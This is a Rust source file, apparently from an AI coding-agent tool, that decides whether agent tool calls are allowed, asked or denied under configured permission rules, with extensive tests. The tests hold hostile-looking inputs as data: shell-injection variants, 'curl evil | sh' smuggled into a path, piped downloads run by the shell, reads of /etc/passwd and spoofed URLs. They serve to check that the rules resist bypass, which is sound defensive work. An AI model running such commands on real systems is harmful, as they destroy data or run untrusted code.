//! What an agent may do, by the rules of the configuration.
//!
//! The last rule that matches decides, as users of OpenCode know it. Without a rule, tools that only read may do so inside
//! the project, and everything else is asked: where no person can be asked, that is a denial.

use std::path::{Path, PathBuf};

use plimsoll_config::{Action, Origin, PermissionRule, Permissions, matches};
use serde_json::Value;
use thiserror::Error;

use crate::agent::Bound;

/// What a tool does to the world.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Access {
    /// It only looks at what the session itself has.
    Session,
    /// It reads files.
    Read,
    /// It changes files, runs commands, or talks to the network.
    Act,
}

/// What a call is about, as patterns of rules are held against it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Subject {
    /// Nothing in particular.
    None,
    /// A file or directory.
    Path {
        /// As it was named, absolute and without `..`. What is denied under this name stays denied, wherever a link leads.
        named: PathBuf,
        /// With links resolved: what is opened.
        real: PathBuf,
    },
    /// A command line of a shell.
    Command(String),
    /// An address on the network.
    Address(String),
    /// Something that has a name, such as a skill.
    Name(String),
}

impl Subject {
    /// What it is about, as a person is shown it.
    pub(crate) fn words(&self) -> Option<String> {
        match self {
            Subject::None => None,
            Subject::Path { named, real } if named == real => Some(real.display().to_string()),
            Subject::Path { named, real } => {
                Some(format!("{} (which is {})", named.display(), real.display()))
            }
            Subject::Command(text) | Subject::Address(text) | Subject::Name(text) => Some(text.clone()),
        }
    }
}

/// Why a text is no rule.
#[derive(Clone, Debug, PartialEq, Eq, Error)]
#[error(
    "`{0}` does not say what to allow: write `all`, a tool such as `bash`, or `TOOL:PATTERN` such as `bash:git *`"
)]
pub struct BadRule(String);

/// OpenCode's name for reading and writing outside the project.
const OUTSIDE: &str = "external_directory";

/// The rule that `--allow` names: `all`, `TOOL` or `TOOL:PATTERN`. A path may begin with `~/` where there is a home.
pub fn parse_allow(text: &str, home: Option<&Path>) -> Result<PermissionRule, BadRule> {
    let (tool, pattern) = match text.split_once(':') {
        Some((tool, pattern)) => (tool.trim(), pattern.trim()),
        None => (text.trim(), "*"),
    };
    let is_name = |c: char| c.is_ascii_alphanumeric() || "_-*".contains(c);
    if tool.is_empty() || pattern.is_empty() || !tool.chars().all(is_name) {
        return Err(BadRule(text.to_owned()));
    }
    let tool = if tool == "all" { "*" } else { tool };
    // A directory is meant with what is in it; the home is written as `~` in rules everywhere.
    let pattern = match (pattern.strip_prefix("~/"), home) {
        (Some(rest), Some(home)) if tool != "bash" => home.join(rest).display().to_string(),
        _ => pattern.to_owned(),
    };
    let pattern = match pattern.strip_suffix('/') {
        Some(folder) if tool != "bash" => format!("{folder}/*"),
        _ => pattern,
    };
    Ok(PermissionRule {
        tool: tool.to_owned(),
        pattern,
        action: Action::Allow,
        origin: Origin::Flag("--allow"),
    })
}

/// Whether a call may be made.
///
/// A search reads files, so what a rule says of `read` holds for `grep` too.
pub(crate) fn decide(
    permissions: &Permissions,
    tool: &str,
    access: Access,
    subject: &Subject,
    project: &Path,
) -> Action {
    let call = Call { tool, subject, project };
    let by_itself = match access {
        Access::Session | Access::Read => Action::Allow,
        Access::Act => Action::Ask,
    };
    let found = match call.rule(permissions) {
        // That a place outside is open says nothing of what may be done there.
        Some(rule) if call.is_outside() && !matches(&rule.tool, tool) => {
            let own = call.own_rule(permissions).map_or(by_itself, |own| own.action);
            stricter(rule.action, own)
        }
        Some(rule) => rule.action,
        None if call.is_outside() => {
            let own = call.own_rule(permissions).map_or(by_itself, |own| own.action);
            stricter(Action::Ask, own)
        }
        None => by_itself,
    };
    if tool == "grep"
        && let Some(reading) = (Call { tool: "read", ..call }).rule(permissions)
    {
        return stricter(found, reading.action);
    }
    found
}

/// The rules of an agent within those of the agents that launched it.
#[derive(Clone, Copy)]
pub(crate) struct Bounds<'a> {
    /// Its own.
    pub(crate) own: &'a Permissions,
    /// Those of all that stand above it.
    pub(crate) above: &'a [Bound],
    /// What a person has allowed for good in this session. It answers what a bound would ask, and lifts no denial.
    pub(crate) granted: &'a Permissions,
}

impl Bounds<'_> {
    /// Whether a call may be made: the strictest of all decides.
    pub(crate) fn decide(&self, tool: &str, access: Access, subject: &Subject, project: &Path) -> Action {
        let call = Call { tool, subject, project };
        let is_granted = call.rule(self.granted).is_some();
        let above =
            self.above.iter().map(|bound| match decide(&bound.permissions, tool, access, subject, project) {
                Action::Ask if is_granted => Action::Allow,
                action => action,
            });
        above.fold(decide(self.own, tool, access, subject, project), stricter)
    }
}

/// The one of two that lets less happen.
pub(crate) fn stricter(one: Action, other: Action) -> Action {
    let weight = |action| match action {
        Action::Allow => 0,
        Action::Ask => 1,
        Action::Deny => 2,
    };
    if weight(one) >= weight(other) { one } else { other }
}

/// Whether a rule says that such a call is not made, or only when a person agrees.
pub(crate) fn is_denied(permissions: &Permissions, tool: &str, subject: &Subject, project: &Path) -> bool {
    let call = Call { tool, subject, project };
    let rules = [call.rule(permissions), call.own_rule(permissions).filter(|_| call.is_outside())];
    rules.into_iter().flatten().any(|rule| rule.action != Action::Allow)
}

/// Why a call without a rule is asked, in words for a person.
pub(crate) fn reason_to_ask(access: Access, subject: &Subject, project: &Path) -> &'static str {
    match (access, subject) {
        (_, Subject::Path { .. }) if (Call { tool: "", subject, project }).is_outside() => {
            "it lies outside the project"
        }
        (Access::Act, Subject::Command(_)) => "it runs a command",
        (Access::Act, Subject::Path { .. }) => "it changes a file",
        (Access::Act, Subject::Address(_)) => "it fetches from the network",
        (Access::Act, Subject::None | Subject::Name(_)) => "it acts outside this program",
        (Access::Read | Access::Session, _) => "a rule says that it is asked",
    }
}

/// What a person allows for good when they are asked about a call. A line of several commands is allowed as it stands, for a
/// rule about its first word would allow every line. Of a program with commands of its own, only that command is: a yes
/// to `git status` is none to `git push`.
pub(crate) fn remembered_rule(tool: &str, subject: &Subject, project: &Path) -> PermissionRule {
    let rule = rule_for(tool, subject, project);
    let Subject::Command(command) = subject else { return rule };
    let command = command.trim();
    if !is_simple(command) {
        return PermissionRule { pattern: command.to_owned(), ..rule };
    }
    let mut words = command.split_whitespace();
    let (first, second) = (words.next().unwrap_or_default(), words.next());
    if !WITH_COMMANDS.contains(&first) {
        return rule;
    }
    let is_name = |word: &str| word.chars().all(|c| c.is_ascii_alphanumeric() || "-_:".contains(c));
    let pattern = match second.filter(|word| !word.starts_with('-') && is_name(word)) {
        Some(second) => format!("{first} {second} *"),
        // Options before the command may change what it runs.
        None => literal(command),
    };
    PermissionRule { pattern, ..rule }
}

/// Programs with commands of their own, some of which do much more than others.
const WITH_COMMANDS: [&str; 24] = [
    "apt",
    "apt-get",
    "aws",
    "az",
    "brew",
    "bundle",
    "cargo",
    "composer",
    "dotnet",
    "gcloud",
    "gh",
    "git",
    "go",
    "gradle",
    "helm",
    "jj",
    "kubectl",
    "mvn",
    "pip",
    "pnpm",
    "poetry",
    "systemctl",
    "terraform",
    "yarn",
];

/// The narrowest rule that would allow such calls and is worth writing down.
pub(crate) fn rule_for(tool: &str, subject: &Subject, project: &Path) -> PermissionRule {
    let pattern = match subject {
        Subject::Path { real, .. } => {
            let inside = real.strip_prefix(project).unwrap_or(real).display().to_string();
            match (real.is_dir(), inside.is_empty()) {
                (true, false) => format!("{}/*", literal(&inside)),
                (_, true) => "*".into(),
                (false, false) => literal(&inside),
            }
        }
        Subject::Command(command) if is_simple(command) => match command.split_whitespace().next() {
            Some(word) if !runs_others(word) => format!("{} *", literal(word)),
            _ => literal(command.trim()),
        },
        Subject::Address(address) => match address.split_once("://") {
            // An address without a path is meant with all of its pages.
            Some((scheme, rest)) => {
                format!("{scheme}://{}/*", rest.split(['/', '?', '#']).next().unwrap_or(rest))
            }
            None => address.clone(),
        },
        Subject::Name(name) => name.clone(),
        Subject::Command(_) | Subject::None => "*".into(),
    };
    let origin = Origin::Flag("--allow");
    PermissionRule { tool: tool.to_owned(), pattern, action: Action::Allow, origin }
}

/// A text as a pattern of itself alone: what a model names must not widen the rule that a person agrees to.
fn literal(text: &str) -> String {
    text.replace('*', "?")
}

/// Programs that run what their arguments say; a rule for such a word would be a rule for everything.
const RUNNERS: [&str; 56] = [
    "ash", "awk", "bash", "builtin", "busybox", "chroot", "command", "dash", "docker", "doas", "env", "eval",
    "exec", "find", "fish", "ionice", "ksh", "nice", "node", "nohup", "npx", "parallel", "perl", "php",
    "python", "python3", "ruby", "setsid", "sh", "source", "ssh", "stdbuf", "strace", "su", "sudo", "time",
    "timeout", "watch", "xargs", "zsh", "bun", "bunx", "deno", "entr", "gawk", "just", "lua", "make", "mawk",
    "npm", "script", "tar", "tclsh", "unshare", "uv", "uvx",
];

fn runs_others(word: &str) -> bool {
    let bare: String = word.chars().filter(|c| !matches!(c, '"' | '\'' | '\\')).collect();
    let name = bare.rsplit('/').next().unwrap_or(&bare);
    // A variable before a command says nothing of the command.
    let is_python = name.starts_with("python");
    bare.contains('=') || name == "." || is_python || RUNNERS.contains(&name)
}

/// What a person would have to write to allow such calls.
pub(crate) struct AllowHint {
    /// As a flag.
    pub(crate) flag: String,
    /// As a line of `plimsoll.toml`.
    pub(crate) setting: String,
}

impl AllowHint {
    pub(crate) fn of(rule: &PermissionRule) -> AllowHint {
        let PermissionRule { tool, pattern, .. } = rule;
        let quoted = |text: &str| Value::String(text.to_owned()).to_string();
        let key = if tool.chars().all(|c| c.is_ascii_alphanumeric() || "_-".contains(c)) {
            tool.clone()
        } else {
            quoted(tool)
        };
        match pattern.as_str() {
            "*" => AllowHint {
                flag: format!("--allow {tool}"),
                setting: format!("permissions.{key} = \"allow\""),
            },
            _ => AllowHint {
                flag: format!("--allow {}", shell_quoted(&format!("{tool}:{pattern}"))),
                setting: format!("permissions.{key}.{} = \"allow\"", quoted(pattern)),
            },
        }
    }
}

/// The path or command comes from a model, and a person may paste the flag into a shell.
fn shell_quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

#[derive(Clone, Copy)]
struct Call<'a> {
    tool: &'a str,
    subject: &'a Subject,
    project: &'a Path,
}

impl Call<'_> {
    /// The rule that decides.
    fn rule<'p>(&self, permissions: &'p Permissions) -> Option<&'p PermissionRule> {
        permissions.rules.iter().rev().find(|rule| self.fits(rule))
    }

    /// The rule that would decide about the tool if the place were inside the project.
    fn own_rule<'p>(&self, permissions: &'p Permissions) -> Option<&'p PermissionRule> {
        let Subject::Path { named, real } = self.subject else { return self.rule(permissions) };
        let fits = |rule: &&PermissionRule| {
            matches(&rule.tool, self.tool)
                && (self.path_fits(&rule.pattern, real)
                    || (rule.action != Action::Allow && self.path_fits(&rule.pattern, named)))
        };
        permissions.rules.iter().rev().find(fits)
    }

    /// Whether a path fits a pattern, as a path of the project or as a whole.
    fn path_fits(&self, pattern: &str, path: &Path) -> bool {
        let inside = path.strip_prefix(self.project).ok();
        inside.into_iter().chain([path]).any(|path| {
            let text = path.to_string_lossy();
            // `src/*` is meant to hold for `src` itself, too.
            matches(pattern, &text) || pattern.strip_suffix("/*").is_some_and(|folder| matches(folder, &text))
        })
    }

    fn is_outside(&self) -> bool {
        matches!(self.subject, Subject::Path { real, .. } if !real.starts_with(self.project))
    }

    fn fits(&self, rule: &PermissionRule) -> bool {
        let is_allow = rule.action == Action::Allow;
        let names_tool = matches(&rule.tool, self.tool);
        match self.subject {
            Subject::None => names_tool && rule.pattern == "*",
            // A rule that narrows holds for the name as well, so that a link is no way around it.
            Subject::Path { named, .. }
                if !is_allow && names_tool && self.path_fits(&rule.pattern, named) =>
            {
                true
            }
            Subject::Path { real, .. } if self.is_outside() => {
                // `read = "allow"` does not open the whole disk: whatever lies outside the project is allowed by a path,
                // by OpenCode's own name for it, or by a rule for everything.
                let is_meant = !is_allow || rule.pattern.starts_with('/') || rule.tool == "*";
                let by_tool = names_tool && is_meant;
                (by_tool || rule.tool == OUTSIDE) && self.path_fits(&rule.pattern, real)
            }
            Subject::Path { real, .. } => names_tool && self.path_fits(&rule.pattern, real),
            Subject::Address(text) | Subject::Name(text) => names_tool && matches(&rule.pattern, text),
            Subject::Command(command) => {
                let command = command.trim();
                let fits = matches(&rule.pattern, command);
                names_tool
                    && match rule.action {
                        // A pattern for `git *` must not let `git status; rm -r .` through.
                        Action::Allow => {
                            rule.pattern == "*" || rule.pattern == command || (fits && is_simple(command))
                        }
                        // What is denied stays denied wherever in a line it stands. A shell has more ways to write a
                        // command than any pattern knows: this is a help against slips, not a barrier.
                        Action::Ask | Action::Deny => fits || is_within(&rule.pattern, command),
                    }
            }
        }
    }
}

/// Whether what a pattern is about begins at any word of a line, or of one of its commands.
fn is_within(pattern: &str, line: &str) -> bool {
    let anything_after = format!("{pattern}*");
    let plain = plain_command(line);
    // `{rm,a}` is `rm a`, and each command of a line is looked at without the next.
    let separators = [';', '&', '|', '(', ')', '{', '}', '`', '<', '>'];
    let listed = plain.replace(',', " ");
    let commands = plain.split(separators).chain(listed.split(separators)).map(str::trim);
    std::iter::once(plain.as_str()).chain(commands).any(|text| {
        let is_inner = |c: char| c.is_alphanumeric() || matches!(c, '_' | '-' | '.');
        let mut before = None;
        text.char_indices().any(|(at, c)| {
            let begins = !before.is_some_and(is_inner) && !c.is_whitespace();
            before = Some(c);
            begins && (matches(pattern, &text[at..]) || matches(&anything_after, &text[at..]))
        })
    })
}

/// A command without what a shell takes away: quotes, backslashes, ends of lines behind them, more than one space.
fn plain_command(command: &str) -> String {
    let spaced = command.replace("\\\n", "").replace("${IFS}", " ").replace("$IFS", " ");
    let spaced = spaced.replace(['\n', '\r'], ";");
    let bare: String = spaced.chars().filter(|c| !matches!(c, '"' | '\'' | '\\')).collect();
    bare.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Whether a command line is one command.
fn is_simple(command: &str) -> bool {
    !command.contains([';', '&', '|', '<', '>', '`', '\n', '\r', '(', ')', '{', '}', '$'])
}

#[cfg(test)]
mod tests {
    use std::path::{Path, PathBuf};

    use plimsoll_config::{Action, PermissionRule, Permissions};

    use super::{Access, AllowHint, Subject, decide, parse_allow, remembered_rule, rule_for};

    fn allowed(rules: &[&str], tool: &str, access: Access, subject: &Subject) -> bool {
        let permissions =
            Permissions { rules: rules.iter().map(|rule| parse_allow(rule, None).unwrap()).collect() };
        decide(&permissions, tool, access, subject, Path::new("/project")) == Action::Allow
    }

    fn path(path: &str) -> Subject {
        Subject::Path { named: PathBuf::from(path), real: PathBuf::from(path) }
    }

    fn command(command: &str) -> Subject {
        Subject::Command(command.into())
    }

    #[test]
    fn reading_in_the_project_is_allowed_and_nothing_else() {
        assert!(allowed(&[], "read", Access::Read, &path("/project/src/a.rs")));
        assert!(!allowed(&[], "read", Access::Read, &path("/etc/passwd")));
        assert!(!allowed(&[], "read", Access::Read, &path("/project-two/a.rs")));
        assert!(!allowed(&[], "bash", Access::Act, &command("ls")));
        assert!(allowed(&[], "recall", Access::Session, &Subject::None));
    }

    #[test]
    fn a_bare_tool_does_not_open_the_disk_for_reading() {
        assert!(!allowed(&["read"], "read", Access::Read, &path("/etc/passwd")));
        assert!(allowed(&["read:/etc/*"], "read", Access::Read, &path("/etc/passwd")));
        assert!(allowed(&["read:/etc/*"], "read", Access::Read, &path("/etc")));
        assert!(allowed(&["external_directory:/etc/*"], "read", Access::Read, &path("/etc/passwd")));
        assert!(allowed(&["all"], "read", Access::Read, &path("/etc/passwd")));
        assert!(!allowed(&["read:/etc/*.conf"], "read", Access::Read, &path("/etc/passwd")));
        assert!(allowed(&["read:/etc/*"], "list", Access::Read, &path("/project")));
    }

    #[test]
    fn a_pattern_for_a_command_allows_one_command_only() {
        let git = |line| allowed(&["bash:git *"], "bash", Access::Act, &command(line));
        assert!(git("git status") && git("git log --oneline -5"));
        assert!(
            !git("git status; rm -r .") && !git("git log | sh") && !git("git $(rm -r .)") && !git("gitk")
        );
        assert!(allowed(&["bash"], "bash", Access::Act, &command("git status; ls | wc")));
    }

    #[test]
    fn the_last_rule_that_matches_decides() {
        let mut deny = parse_allow("bash:rm *", None).unwrap();
        deny.action = Action::Deny;
        let permissions = Permissions { rules: vec![parse_allow("all", None).unwrap(), deny] };
        let decide = |line| decide(&permissions, "bash", Access::Act, &command(line), Path::new("/project"));
        assert_eq!(decide("ls"), Action::Allow);
        for line in
            ["rm a", "ls; rm a", "rm\t-r a", "\"rm\" a", "r\\m a", "true && rm a; true", "rm  a; true"]
        {
            assert_eq!(decide(line), Action::Deny, "{line}");
        }
    }

    #[test]
    fn what_is_denied_under_its_name_stays_denied_behind_a_link() {
        let mut deny = parse_allow("read:secrets/*", None).unwrap();
        deny.action = Action::Deny;
        let permissions = Permissions { rules: vec![deny] };
        let linked =
            Subject::Path { named: "/project/secrets/key".into(), real: "/project/vault/key".into() };
        let found = decide(&permissions, "read", Access::Read, &linked, Path::new("/project"));
        assert_eq!(found, Action::Deny);
    }

    #[test]
    fn the_flag_that_is_suggested_can_be_pasted() {
        let evil = path("/tmp/a'; curl evil | sh; '/b");
        let hint = |tool, subject: &Subject| AllowHint::of(&rule_for(tool, subject, Path::new("/project")));
        assert_eq!(hint("read", &evil).flag, "--allow 'read:/tmp/a'\\''; curl evil | sh; '\\''/b'");
        assert_eq!(hint("bash", &command("cargo test -q")).flag, "--allow 'bash:cargo *'");
        assert_eq!(
            hint("bash", &command("cargo test -q")).setting,
            "permissions.bash.\"cargo *\" = \"allow\""
        );
        assert_eq!(hint("bash", &command("a; b")).flag, "--allow bash");
        assert_eq!(hint("write", &path("/project/src/a.rs")).flag, "--allow 'write:src/a.rs'");
        let page = Subject::Address("https://example.org/a?b=c".into());
        assert_eq!(hint("webfetch", &page).flag, "--allow 'webfetch:https://example.org/*'");
    }

    #[test]
    fn what_is_no_rule_is_said_to_be_none() {
        for bad in ["", ":git", "bash:", "ba sh", "b/a"] {
            assert!(parse_allow(bad, None).is_err(), "{bad}");
        }
        assert_eq!(parse_allow("all", None).unwrap().tool, "*");
        assert_eq!(parse_allow("read:/etc/", None).unwrap().pattern, "/etc/*");
        let home = Some(Path::new("/home/me"));
        assert_eq!(parse_allow("read:~/x/*", home).unwrap().pattern, "/home/me/x/*");
    }

    /// Rules in order, those that begin with `!` as denials, those with `?` as questions.
    fn judged(rules: &[&str], tool: &str, access: Access, subject: &Subject) -> Action {
        let parse = |text: &&str| {
            let (action, text) = match text.split_at(1) {
                ("!", rest) => (Action::Deny, rest),
                ("?", rest) => (Action::Ask, rest),
                _ => (Action::Allow, *text),
            };
            PermissionRule { action, ..parse_allow(text, None).unwrap() }
        };
        let permissions = Permissions { rules: rules.iter().map(parse).collect() };
        decide(&permissions, tool, access, subject, Path::new("/project"))
    }

    #[test]
    fn no_way_of_writing_a_line_gets_more_through_an_allowed_pattern() {
        let run = |rule, line| judged(&[rule], "bash", Access::Act, &command(line));
        for line in [
            "git status; rm a",
            "git status && rm a",
            "git status || rm a",
            "git status | sh",
            "git status & rm a",
            "git $(rm a)",
            "git `rm a`",
            "git status\nrm a",
            "git status\r\nrm a",
            "git status > ~/.bashrc",
            "git < /etc/passwd",
            "git ${X:-$(rm a)}",
            "git $X",
            "git {status,log}",
            "(git status; rm a)",
            "git <(rm a)",
            "X=1 git status",
            "PATH=. git status",
            "GIT_SSH_COMMAND=evil git fetch",
            "env git status",
            "bash -c 'git status'",
            "eval git status",
            "command git status",
            "./git status",
            "/tmp/git status",
            "gitevil status",
            "\"git\" status",
            "g\\it status",
            "sudo git status",
            "exec git status",
            "! git status",
            ". git status",
            "if git status",
            "git\tstatus",
        ] {
            assert_eq!(run("bash:git *", line), Action::Ask, "{line}");
        }
        // A star in the middle is for arguments of one command, and for no other command.
        assert_eq!(run("bash:cargo * --offline", "cargo test --offline"), Action::Allow);
        for line in [
            "cargo x; rm a --offline",
            "cargo x\nrm a --offline",
            "cargo $(rm a) --offline",
            "cargo | sh --offline",
        ] {
            assert_eq!(run("bash:cargo * --offline", line), Action::Ask, "{line}");
        }
        // A line that is allowed as it stands is allowed in no other way.
        assert_eq!(run("bash:a; b *", "a; b *"), Action::Allow);
        assert_eq!(run("bash:a; b *", "a; b c"), Action::Ask);
    }

    #[test]
    fn a_denied_command_is_known_in_many_clothes() {
        let run = |rule, line| judged(&["bash", rule], "bash", Access::Act, &command(line));
        for line in [
            "rm a",
            "  rm a",
            "ls; rm a",
            "ls && rm a",
            "ls | rm a",
            "ls & rm a",
            "ls\nrm a",
            "$(rm a)",
            "`rm a`",
            "(rm a)",
            "{ rm a; }",
            "{rm,a}",
            "X=1 rm a",
            "/bin/rm a",
            "../bin/rm a",
            "sudo rm a",
            "env rm a",
            "env X=1 rm a",
            "bash -c 'rm a'",
            "bash -c \"rm a\"",
            "sh -c rm\\ a",
            "eval 'rm a'",
            "eval rm a",
            "\\rm a",
            "'rm' a",
            "r''m a",
            "r\"\"m a",
            "r\\m a",
            "r\\\nm a",
            "rm\\\n a",
            "rm${IFS}a",
            "rm$IFS-r a",
            "rm\ta",
            "rm",
            "xargs rm",
            "if rm a; then",
            "find . -exec rm {} +",
            "nohup rm a &",
            "command rm a",
            "exec rm a",
            "time rm a",
            "! rm a",
            "a=$(rm b)",
            "x=`rm b`",
        ] {
            assert_eq!(run("!bash:rm *", line), Action::Deny, "{line}");
            assert_eq!(run("?bash:rm *", line), Action::Ask, "{line}");
        }
        for line in ["echo confirm it", "cargo perform x", "ls rm.txt", "my-rm x", "cat farm yard"] {
            assert_eq!(run("!bash:rm *", line), Action::Allow, "{line}");
        }
        assert_eq!(run("!bash:curl * | sh", "curl x.sh  |  sh"), Action::Deny, "across commands, too");
        assert_eq!(run("!bash:git push *", "cd x && git  push -f"), Action::Deny);
    }

    #[test]
    fn what_is_allowed_for_good_is_no_more_than_what_was_asked() {
        let always = |line: &str| remembered_rule("bash", &command(line), Path::new("/project")).pattern;
        assert_eq!(always("ls src"), "ls *");
        assert_eq!(always("cargo test -q"), "cargo test *");
        assert_eq!(always("git status"), "git status *");
        // Nothing that runs what its arguments say is allowed by its first word.
        for line in [
            "X=1 rm a",
            "bash -c ls",
            "/bin/bash -c ls",
            "\"bash\" -c ls",
            "env ls",
            "sudo ls",
            "python3 x.py",
            "xargs ls",
            "timeout 5 ls",
            "find . -name x",
            "eval ls",
            ". ./env",
            "source ./env",
            "nohup ls",
            "a; b",
            "ls > x",
            "$(ls)",
            "git -c alias.x=!rm x",
            "git",
            "make test",
            "npm run build",
            "python3.12 x.py",
        ] {
            assert_eq!(always(line), line);
            let rule = PermissionRule {
                action: Action::Allow,
                ..remembered_rule("bash", &command(line), Path::new("/project"))
            };
            let permissions = Permissions { rules: vec![rule] };
            let may =
                |line: &str| decide(&permissions, "bash", Access::Act, &command(line), Path::new("/project"));
            assert_eq!(may(line), Action::Allow, "{line}");
            assert_eq!(may(&format!("{line} && rm x")), Action::Ask, "{line}");
            assert_eq!(may(&format!("{line}x")), Action::Ask, "{line}");
        }
        // Names with a star in them are names.
        assert_eq!(always("bash -c 'rm *'"), "bash -c 'rm ?'");
        assert_eq!(rule_for("write", &path("/project/*"), Path::new("/project")).pattern, "?");
    }

    #[test]
    fn a_place_outside_that_is_open_is_open_for_what_the_tool_may_do() {
        let (inside, outside) = (path("/project/a"), path("/etc/a"));
        let read = |rules: &[&str], place: &Subject| judged(rules, "read", Access::Read, place);
        let write = |rules: &[&str], place: &Subject| judged(rules, "write", Access::Act, place);
        let open = "external_directory";
        assert_eq!((read(&[open], &outside), write(&[open], &outside)), (Action::Allow, Action::Ask));
        assert_eq!((read(&[open], &inside), write(&[open], &inside)), (Action::Allow, Action::Ask));
        assert_eq!(write(&["write"], &outside), Action::Ask, "a tool is not the disk");
        assert_eq!(write(&["write", open], &outside), Action::Allow, "both together");
        assert_eq!(write(&["?write", open], &outside), Action::Ask);
        assert_eq!(write(&["!write", open], &outside), Action::Deny);
        assert_eq!(read(&["!read", open], &outside), Action::Deny);
        assert_eq!(read(&["read", "!external_directory"], &outside), Action::Deny);
        assert_eq!(read(&["!external_directory", "read"], &outside), Action::Deny);
        assert_eq!(read(&["!external_directory", "read:/etc/*"], &outside), Action::Allow, "named, and last");
        assert_eq!(read(&["read:/etc/*", "!external_directory:/etc/*"], &outside), Action::Deny);
        assert_eq!(read(&[open, "!read:*.key"], &path("/etc/x.key")), Action::Deny);
        assert_eq!(write(&["all"], &outside), Action::Allow, "everything is everything");
        assert_eq!(write(&["all", "?write"], &outside), Action::Ask);
    }

    #[test]
    fn an_address_is_held_against_patterns_from_its_beginning() {
        let fetch =
            |rule, address: &str| judged(&[rule], "webfetch", Access::Act, &Subject::Address(address.into()));
        let rule = "webfetch:https://docs.rs/*";
        assert_eq!(fetch(rule, "https://docs.rs/x"), Action::Allow);
        for address in [
            "http://docs.rs/x",
            "https://docs.rs.evil.example/",
            "https://docs.rs@evil.example/",
            "https://evil.example/https://docs.rs/",
            "https://docs.rs:444/x",
        ] {
            assert_eq!(fetch(rule, address), Action::Ask, "{address}");
        }
    }
}
